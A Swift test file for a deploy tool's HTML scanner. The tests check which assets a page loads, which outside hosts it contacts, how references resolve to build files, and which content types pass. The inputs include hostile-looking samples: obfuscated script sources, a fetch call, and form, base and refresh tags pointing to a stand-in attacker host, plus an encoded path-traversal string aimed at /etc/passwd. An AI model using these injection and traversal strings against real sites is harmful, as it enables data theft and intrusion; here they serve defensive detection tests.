import DeploySteps
import Testing

struct PageTests {
    private func page(_ html: String) -> PageScan { PageScan(Array(html.utf8)) }

    @Test(arguments: [
        ("<script type=\"module\" crossorigin src=\"/assets/a.js\"></script>", ["/assets/a.js"]),
        ("<SCRIPT SRC=a.js></SCRIPT>", ["a.js"]),
        ("<script src='a&amp;b.js'></script>", ["a&b.js"]),
        ("<script src=\"a&#46;js\"></script>", ["a.js"]),
        ("<link rel=stylesheet href=a.css><link rel='modulepreload' href=b.js>", ["a.css", "b.js"]),
        ("<link rel=\"shortcut icon\" href=\"favicon.ico\">", ["favicon.ico"]),
        ("<link rel=manifest href=m.json><link rel=canonical href=/x>", ["m.json"]),
        ("<img src=a.png srcset=\"b.png 1x, c.png 2x\">", ["a.png", "b.png", "c.png"]),
        ("<link rel=preload imagesrcset='d.png 2x' as=image>", ["d.png"]),
        ("<video src=v.mp4 poster=p.jpg></video>", ["v.mp4", "p.jpg"]),
        ("<!-- <script src=no.js></script> --><script src=yes.js></script>", ["yes.js"]),
        ("<script>var s = '<img src=no.png>'</script><img src=yes.png>", ["yes.png"]),
        ("<script>a</scriptx><img src=no.png></script ><img src=yes.png>", ["yes.png"]),
        ("<a href=/route>x</a><a href=https://example.com>y</a>", []),
        ("<img src=data:image/png;base64,AAAA><img src='blob:x'>", []),
        ("<img src=\"a.png\" src=\"b.png\">", ["a.png"]),
        ("<img src=a.png><img src=a.png>", ["a.png"]),
        ("<img\nsrc\n=\n\"a.png\"\n/>", ["a.png"]),
        ("<img src=\"a.png", ["a.png"]),
        ("<", []), ("<img", []), ("<img =x>", []), ("", []),
    ])
    func `a page names what a browser fetches`(_ html: String, _ references: [String]) {
        #expect(page(html).references == references)
    }

    @Test(arguments: [
        ("<script src=https://cdn.example.com/x.js></script>", ["cdn.example.com"]),
        ("<script src=//cdn.example.com:8443/x.js></script>", ["cdn.example.com:8443"]),
        ("<script src='\\\\evil.example/x.js'></script>", ["evil.example"]),
        ("<script src='ht\ntps://evil.example/x.js'></script>", ["evil.example"]),
        ("<script src='https:evil.example/x.js'></script>", ["evil.example"]),
        ("<script src='&#104;ttps://evil.example/x.js'></script>", ["evil.example"]),
        ("<script src='https://good@evil.example/x.js'></script>", ["evil.example"]),
        ("<link rel=preconnect href=https://fonts.example>", ["fonts.example"]),
        ("<link rel=canonical href=https://own.example>", []),
        ("<base href=https://evil.example/>", ["evil.example"]),
        ("<form action=https://evil.example/></form>", ["evil.example"]),
        ("<iframe src=https://evil.example></iframe>", ["evil.example"]),
        ("<meta http-equiv=refresh content='0; url=https://evil.example/'>", ["evil.example"]),
        ("<script>fetch('https://evil.example/' + x)</script>", ["evil.example"]),
        ("<script>import('//evil.example/x.js')</script>", ["evil.example"]),
        ("<style>body{background:url(//evil.example/x.png)}</style>", ["evil.example"]),
        ("<div onclick=\"fetch('https://evil.example')\">", ["evil.example"]),
        ("<script>var ns = 'http://www.w3.org/2000/svg' // https no host</script>", []),
        ("<a href=https://example.com>y</a>", []),
    ])
    func `a page names other hosts`(_ html: String, _ hosts: [String]) {
        #expect(page(html).hosts == hosts)
    }

    @Test(arguments: [
        ("/assets/a.js", "/", PageReference.Meaning.file("assets/a.js")),
        ("./a.js?v=1#x", "/", .file("a.js")),
        ("a%20b.js", "/", .file("a b.js")),
        ("/a/../b.js", "/", .file("b.js")),
        ("../b.js", "/", .nonsense),
        ("%2e%2e/%2e%2e/etc/passwd", "/", .nonsense),
        ("a%00b", "/", .nonsense),
        ("%ff.js", "/", .nonsense),
        ("/", "/", .file("index.html")),
        ("/app/assets/a.js", "/app/", .file("assets/a.js")),
        ("assets/a.js", "/app/", .file("assets/a.js")),
        ("/api/config.js", "/app/", .elsewhere),
        ("/api/config.js", "/", .file("api/config.js")),
        ("../x.js", "/app/", .elsewhere),
        ("?x", "/", .elsewhere),
        ("a%", "/", .file("a%")),
    ])
    func `a reference means a file of the build, or none`(_ reference: String, _ base: String, _ meaning: PageReference.Meaning) {
        #expect(PageReference.meaning(of: reference, base: base) == meaning)
    }

    @Test func `a base of the page's own counts`() {
        #expect(PageReference.meaning(of: "a.js", base: "/", pageBase: "/x/") == .file("x/a.js"))
        #expect(PageReference.meaning(of: "a.js", base: "/app/", pageBase: "x/") == .file("x/a.js"))
        #expect(PageReference.meaning(of: "/a.js", base: "/", pageBase: "/x/") == .file("a.js"))
        #expect(PageReference.target(of: "a b/ü.js", base: "/app/") == "/app/a%20b/%C3%BC.js")
    }

    @Test(
        arguments: [
            ("a.js", "text/javascript; charset=utf-8", true), ("a.js", "text/html", false),
            ("a.mjs", "application/octet-stream", false),
            ("a.css", "TEXT/CSS", true), ("a.woff2", "font/woff2", true), ("a.woff2", "text/html", false),
            ("a.wasm", "application/wasm", true),
            ("index.html", "text/html;charset=utf-8", true), ("x", nil, false),
        ] as [(String, String?, Bool)])
    func `a content type is one that browsers take, or not`(_ path: String, _ type: String?, _ isGood: Bool) {
        #expect((ContentTypes.objection(to: type, for: path) == nil) == isGood)
    }

    /// A page that takes as long as its square would hold the deploy daemon up.
    @Test(.timeLimit(.minutes(10))) func `a page made to be slow is not`() {
        for part in ["<", "<a ", "<script", "<!--", "<a a", "&", "<img srcset=',", "//", "</script", "<a b=\"&#1;"] {
            let html = String(repeating: part, count: (1 << 18) / part.utf8.count)
            _ = page(html)
            _ = page("<script>" + html)
        }
    }
}
